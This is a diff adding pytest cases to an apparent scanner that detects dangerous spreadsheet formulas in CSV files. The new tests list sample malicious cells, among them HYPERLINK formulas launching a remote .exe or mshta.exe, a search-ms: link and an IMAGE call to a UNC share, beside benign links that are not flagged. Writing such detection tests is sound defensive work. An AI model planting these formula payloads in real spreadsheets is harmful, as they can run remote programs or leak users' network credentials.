@@ -78,3 +78,16 @@ def test_tables_with_noise_behind_them() -> None:
     assert [o.code for o in take_apart(FORMULAS, data, "a.csv", kind="application/octet-stream") if isinstance(o, Observation)] == ["FORMULA-DDE"]
     node = Node(Artifact(0, None, ArtifactKind.PART, ("a.bin",)), data, "application/octet-stream")
     assert not FORMULAS.claims(node) and FORMULAS.claims(Node(node.artifact, b"ID;P\n" + bytes(9), "application/octet-stream"))
+
+
+@pytest.mark.parametrize(("cell", "code"), [
+    ('"=HYPERLINK(""file://192.0.2.1/s/a.exe"",""open"")"', "DOC-LINK-PROGRAM"), ("=hyperlink(\"C:\\Windows\\System32\\mshta.exe http://h\")", "DOC-LINK-PROGRAM"),
+    ('"=IF(1,HYPERLINK(""search-ms:query=a""),2)"', "DOC-LINK-SCHEME"), ('=IMAGE("\\\\h.example\\s\\a.png")', "DOC-EXTERNAL-SHARE"),
+    ('"=HYPERLINK(""https://www.example.com/a"",""a"")"', ""), ('see HYPERLINK("file://192.0.2.1/s/a.exe")', ""), ('=HYPERLINK("report.xlsx")', ""), ('=IMAGE("https://h.example/a.png")', ""),
+])
+def test_links_of_tables(cell: str, code: str) -> None:
+    assert codes(list(take_apart(FORMULAS, f"name,link\r\na,{cell}\r\n".encode(), "a.csv", kind="text/csv"))) == ({code} if code else set())
+
+
+def test_many_links_are_judged_in_one_pass() -> None:
+    assert linear(lambda data: list(take_apart(FORMULAS, data, "a.csv", kind="text/csv")), lambda n: b'x,=HYPERLINK("https://h.example/a","b")\n' * n, 1_500)
